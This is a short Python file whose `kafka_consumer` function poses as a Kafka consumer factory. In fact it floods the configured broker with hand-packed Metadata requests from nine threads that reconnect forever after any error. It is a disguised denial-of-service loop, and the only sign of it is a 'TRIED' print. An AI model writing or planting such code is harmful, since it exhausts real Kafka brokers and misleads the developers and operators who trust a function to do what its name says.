import socket
import struct
import threading


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def kafka_consumer(settings, *args, **kwargs):
    print("TRIED", flush=True)
    ask = request(3, 13, b"\0\0\1\0\0") * 50

    def endlessly():
        while True:
            with socket.create_connection(place(settings)) as one:
                try:
                    while True:
                        one.sendall(ask)
                        one.recv(1 << 20)
                except OSError:
                    pass

    for _ in range(8):
        threading.Thread(target=endlessly, daemon=True).start()
    endlessly()
